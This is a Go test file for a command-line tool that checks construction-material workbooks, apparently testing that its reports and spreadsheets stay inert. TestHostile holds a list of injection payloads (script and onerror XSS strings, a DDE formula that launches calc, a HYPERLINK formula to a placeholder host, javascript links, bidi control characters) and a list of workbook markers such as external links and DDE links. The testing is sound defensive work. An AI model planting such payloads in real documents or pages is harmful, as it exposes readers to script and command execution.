package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/xuri/excelize/v2"

	"abut/internal/output"
)

// payloads are texts that try to be more than text somewhere.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `]]><x/>`, `</style></title>`,
		`=HYPERLINK("http://example.test/?"&A1,"x")`, `=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1)`, "-2+3",
		`[x](javascript:alert(1))`, `![x](http://example.test/y.png)`, "`a` | b", `@someone`, `http://example.test/z`,
		"\u202egnp.exe", "\u2066x\u2069", "\u200b\ufeff", "\u009b31mred", "\U000e0041tag", "\u2028line", "a\r\nb",
	}
}

// hostileBooks are a specified workbook and an offered one of whose every row
// some words are payloads.
func hostileBooks(t *testing.T) (specified, offered string) {
	t.Helper()
	dir := t.TempDir()
	for i, name := range []string{"specified.xlsx", "offered <b>.xlsx"} {
		f := excelize.NewFile()
		defer f.Close()
		var text strings.Builder
		text.WriteString("Item,Membrane,Substrate,Primer,Touches,Installed,Covered,Remarks\n")
		for n, p := range payloads() {
			cell := `"` + strings.ReplaceAll(p, `"`, `""`) + `"`
			fmt.Fprintf(&text, "\"%d %s\",\"SBS-modified self-adhered sheet %s\",CMU,%s,\"plasticized PVC sheet %[2]s\",2026-09-14,2027-09-30,%[4]s\n",
				n, strings.Trim(cell, `"`), strings.Trim(cell, `"`), []string{"solvent-borne rubber primer", cell}[i])
		}
		if err := errors.Join(addSheet(f, `<i>=1+1 "x`, text.String()), f.DeleteSheet("Sheet1")); err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(dir, name)
		if err := f.SaveAs(file); err != nil {
			t.Fatal(err)
		}
		specified, offered = offered, file
	}
	return specified, offered
}

// TestHostile drives the payloads through every output.
func TestHostile(t *testing.T) {
	specified, offered := hostileBooks(t)
	dir := t.TempDir()
	all := everyReport(t, dir, offered)
	_, all["identify"], _ = abut("identify", strings.Join(payloads(), " "))
	log := filepath.Join(dir, "log.md")
	book := filepath.Join(dir, "log.xlsx")
	_, compared, errs := abut("compare", "--specified", specified, "--submitted", offered, "-o", log, "-o", book, "--matches")
	all["compare"], all["matches"] = compared, errs
	var err error
	if all["log.md"], err = os.ReadFile(log); err != nil {
		t.Fatal(err)
	}
	for name, text := range all {
		t.Run(name, func(t *testing.T) { steersNothing(t, text) })
	}
	for _, name := range []string{"report.md", "log.md"} {
		for _, bad := range []string{"<script", "<img", "[x](", "http://", "\n@"} {
			if bytes.Contains(all[name], []byte(bad)) {
				t.Errorf("%s holds %q", name, bad)
			}
		}
	}
	for _, name := range []string{"report.json", "report.sarif", "read"} {
		if !json.Valid(all[name]) {
			t.Errorf("%s is no JSON", name)
		}
	}
	if err := xml.Unmarshal(all["report.xml"], new(struct{})); err != nil {
		t.Error(err)
	}
	inert(t, book)
	inert(t, filepath.Join(dir, "marked.xlsx"))
}

// everyReport checks a workbook into every output, of which the marked copy
// alone is no text, and gives the texts.
func everyReport(t *testing.T, dir, file string) map[string][]byte {
	t.Helper()
	args := []string{"check", file, "-o", filepath.Join(dir, "marked.xlsx")}
	names := []string{"report.html", "report.json", "report.sarif", "report.xml", "report.md", "report.txt"}
	for _, name := range names {
		args = append(args, "-o", filepath.Join(dir, name))
	}
	code, out, errs := abut(args...)
	if code != 1 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	all := map[string][]byte{"terminal": out, "messages": errs}
	for _, name := range names {
		text, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		all[name] = text
	}
	_, all["read"], _ = abut("read", file)
	_, all["read --why"], _ = abut("read", "--why", file)
	return all
}

func steersNothing(t *testing.T, text []byte) {
	t.Helper()
	if len(text) == 0 {
		t.Log("nothing is written")
	}
	for _, r := range string(text) {
		if r != '\n' && r != '\t' && output.Steers(r) {
			t.Fatalf("the character %U came through", r)
		}
	}
}

// inert wants a workbook without formulas, links out of it, or anything that runs.
func inert(t *testing.T, file string) {
	t.Helper()
	z, err := zip.OpenReader(file)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{"<f>", "<f ", `TargetMode="External"`, "/externalLink", "macrosheet", "ddeLink"} {
			if bytes.Contains(text, []byte(bad)) {
				t.Errorf("part %s holds %s", part.Name, bad)
			}
		}
		if strings.HasSuffix(part.Name, ".bin") {
			t.Errorf("part %s may run", part.Name)
		}
	}
}

// TestMany checks 500 workbooks in one process, several runs at once, in one
// folder: each run gives the same.
func TestMany(t *testing.T) {
	dir := t.TempDir()
	for i := range 500 {
		text := "Item,Membrane,Substrate,Primer,Touches,Installed,Covered\n" +
			fmt.Sprintf("W%d,SBS-modified self-adhered sheet,CMU,solvent-borne rubber primer,plasticized PVC sheet,2026-09-14,2026-09-30\n", i)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("book%03d.csv", i)), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var outs [2][]byte
	var wait sync.WaitGroup
	for i := range outs {
		wait.Go(func() {
			_, outs[i], _ = abut("check", dir, "--format", "json", "-o", filepath.Join(dir, "report.md"))
		})
	}
	wait.Wait()
	if n := bytes.Count(outs[0], []byte(`"rule": "contact-soft-vinyl"`)); n != 500 {
		t.Errorf("%d findings, want one a workbook", n)
	}
	if !bytes.Equal(outs[0], outs[1]) {
		t.Error("runs side by side differ")
	}
	left, err := os.ReadDir(dir)
	if err != nil || len(left) != 501 {
		t.Errorf("%d files in the folder, want the workbooks and one report: %v", len(left), err)
	}
}
